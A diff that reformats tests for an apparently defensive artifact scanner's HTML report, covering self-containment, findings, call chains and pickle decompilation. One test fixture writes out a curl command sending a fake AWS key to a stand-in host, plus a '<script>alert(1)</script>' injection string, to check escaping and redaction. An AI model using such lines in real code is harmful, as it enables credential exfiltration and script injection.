@@ -93,17 +93,13 @@ def drop(tmp_path: Path) -> Path:
 def test_html_report_in_chromium(run_cli, drop: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     out = tmp_path / "report.html"
     vuln_db = FIXTURES / "deps" / "osv-records.zip"
-    r = run_cli(
-        "scan", str(drop), "--html", str(out), "--json", "-", "--vuln-db", str(vuln_db), "--reproducible"
-    )
+    r = run_cli("scan", str(drop), "--html", str(out), "--json", "-", "--vuln-db", str(vuln_db), "--reproducible")
     assert r.code == 1
     doc = r.json()
     source = out.read_text()
     # self-contained: nothing is loaded from anywhere
     parsed = Dom(source)
-    assert not [
-        t for t, a in parsed.elements if t in {"script", "link", "img", "iframe", "object"} or "src" in a
-    ]
+    assert not [t for t, a in parsed.elements if t in {"script", "link", "img", "iframe", "object"} or "src" in a]
     style = source.split("<style>", 1)[1].split("</style>", 1)[0]
     assert "@import" not in style and "url(" not in style
     assert "default-src 'none'" in source
@@ -123,9 +119,7 @@ def test_html_report_in_chromium(run_cli, drop: Path, tmp_path: Path) -> None:  
     findings = [f for a in doc["artifacts"] for f in a["findings"]]
     boxes = dom.by_class("finding")
     assert len(boxes) == len(findings)
-    assert {b["class"].split()[1].removeprefix("sev-border-") for b in boxes} == {
-        f["severity"] for f in findings
-    }  # type: ignore[union-attr]
+    assert {b["class"].split()[1].removeprefix("sev-border-") for b in boxes} == {f["severity"] for f in findings}  # type: ignore[union-attr]
     # digests and formats per artifact
     for art in doc["artifacts"]:
         assert f"sha256:{art['digests']['sha256']}" in dom.text()
@@ -133,15 +127,9 @@ def test_html_report_in_chromium(run_cli, drop: Path, tmp_path: Path) -> None:  
     # the call chain of the Lambda layer and the dependency vulnerabilities table
     chain = [f for f in findings if f.get("extra", {}).get("call_chain")]
     assert chain and " ".join(chain[0]["extra"]["call_chain"]) in " ".join(
-        dom_text.split('class="call-chain"', 1)[1]
-        .split("</ol>", 1)[0]
-        .replace("<li><code>", " ")
-        .replace("</code></li>", "")
-        .split()
+        dom_text.split('class="call-chain"', 1)[1].split("</ol>", 1)[0].replace("<li><code>", " ").replace("</code></li>", "").split()
     )
-    assert len(dom.by_class("vulnerability")) == sum(
-        1 for f in findings if "vulnerability_id" in f.get("extra", {})
-    )
+    assert len(dom.by_class("vulnerability")) == sum(1 for f in findings if "vulnerability_id" in f.get("extra", {}))
     assert dom.by_class("vulnerability")
     # the code unpickling would run, decompiled by the pickle engine (never executed)
     (pickled,) = [f for a in doc["artifacts"] if a["relpath"] == "call_os_system.pkl" for f in a["findings"]]
@@ -160,9 +148,7 @@ def test_html_shows_decompiled_code_escaped_and_redacted(drop: Path, tmp_path: P
     code = f"from os import system\nsystem('curl http://x/?k={FAKE_AWS}')\n</code></pre><script>alert(1)</script>"
     extra = {"decompiled": code, "call_chain": ["os.system"], "module": "os", "qualname": "system"}
     first = report.results[0]
-    added = finding(
-        "AS-GEN-005", analyzer="test", member="data.pkl", detail="pickle calls os.system", extra=extra
-    )
+    added = finding("AS-GEN-005", analyzer="test", member="data.pkl", detail="pickle calls os.system", extra=extra)
     report = replace(report, results=(replace(first, findings=(added, *first.findings)), *report.results[1:]))
     out = tmp_path / "decompiled.html"
     out.write_text(HtmlRenderer().render(report))
